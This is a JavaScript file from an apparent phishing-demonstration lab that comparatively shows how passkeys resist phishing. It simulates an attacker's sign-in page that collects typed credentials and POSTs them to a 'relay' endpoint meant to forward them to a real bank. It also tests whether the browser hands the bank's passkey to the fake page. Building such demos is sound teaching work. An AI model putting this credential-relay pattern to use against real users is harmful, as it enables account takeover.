/**
 * The attacker's copy of a sign-in page. What Alice types comes in the fragment of its address, which no server sees: the lab plays her.
 * Its own server passes it on to the real bank at once.
 */

import { find } from '../dom.js';
import { closeSoon } from './closing.js';

const { tag, run } = document.body.dataset;
const { way, rpId } = find('[data-way]').dataset;
const state = find('[data-state]');
const SECONDS = 3;

/** What the browser says to this page when it asks for the key of the bank's host. */
async function askForItsKey() {
  if (!globalThis.PublicKeyCredential) return 'knows no passkeys';
  try {
    const signal = AbortSignal.timeout(SECONDS * 1000);
    await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32), rpId, timeout: SECONDS * 1000 }, signal });
    return 'gave it away';
  } catch ({ name }) {
    return name;
  }
}

async function given() {
  if (way === 'passkey') return { browser: await askForItsKey() };
  const typed = Object.fromEntries(new URLSearchParams(location.hash.slice(1)));
  const form = find('[data-form]');
  for (const [name, value] of Object.entries(typed)) form.elements[name].value = value;
  return typed;
}

state.textContent = 'Alice is signing in…';
const body = JSON.stringify(await given());
history.replaceState(null, '', location.pathname + location.search);
const answer = await fetch(`/phishing/relay?tag=${tag}&run=${run}`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body });
closeSoon(state, answer.ok ? 'Thank you. The lab’s page has the evidence.' : `The attacker’s server failed: ${answer.status}.`);
